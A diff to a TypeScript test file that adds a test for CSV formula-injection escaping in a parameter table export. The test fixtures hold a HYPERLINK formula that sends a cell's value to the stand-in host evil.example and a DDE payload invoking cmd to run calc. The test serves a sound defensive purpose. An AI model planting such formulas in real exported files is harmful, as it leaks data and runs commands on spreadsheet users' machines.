@@ -3,6 +3,7 @@ import { describe, expect, it } from "vitest";
 import { readParameterFile } from "~/lib/merger/parameterFile";
 import { mergeParameterFiles, type MergeInputFile } from "~/lib/merger/parameterMerge";
 import { setOfPath } from "~/lib/merger/parameterSet";
+import { byteOrderMark } from "~/lib/shell/csvFile";
 import { parametersOf } from "./mergedParameters";
 import {
   checksByParameter,
@@ -103,11 +104,34 @@ describe("the CSV export", () => {
   it("has code, value, set, file, line, old value and checks, and reads back with papaparse", () => {
     const rowNumbers = matchingRows(result, checks, { filter: "all", query: "" });
     const csv = parameterTableCsv(rowsAt(result, checks, rowNumbers, 0, rowNumbers.length));
-    expect(Papa.parse<string[]>(csv).data).toEqual([
+    expect(Papa.parse<string[]>(csv.slice(byteOrderMark.length)).data).toEqual([
       [...parameterTableCsvColumns],
       ["P0412", "12", "customer", "KUNDESPEC/k.txt", "1", "11", ""],
       ["P0500", "Alpha", "standard", "standard/a.txt", "3", "", ""],
       ["P0900", "New", "customer", "KUNDESPEC/k.txt", "3", "", ""],
+    ]);
+  });
+
+  it("opens in a spreadsheet as text: a BOM first, values that look like formulas marked, plain numbers kept", () => {
+    const hostile = mergeParameterFiles([
+      fileOf(
+        "standard/a.txt",
+        'P001\n=HYPERLINK("http://evil.example/?"&A1,"click")\nP002\n@SUM(1+1)*cmd|\' /C calc\'!A0\nP003\n-5\nP004\n+1.5\nP005\nÆøå\n',
+      ),
+    ]);
+    const hostileChecks = checksByParameter(hostile.checks);
+    const rowNumbers = matchingRows(hostile, hostileChecks, { filter: "all", query: "" });
+    const csv = parameterTableCsv(rowsAt(hostile, hostileChecks, rowNumbers, 0, rowNumbers.length));
+    expect(csv.startsWith("\uFEFF")).toBe(true);
+    const values = Papa.parse<string[]>(csv.slice(1))
+      .data.slice(1)
+      .map((row) => row[1]);
+    expect(values).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "-5",
+      "+1.5",
+      "Æøå",
     ]);
   });
 });
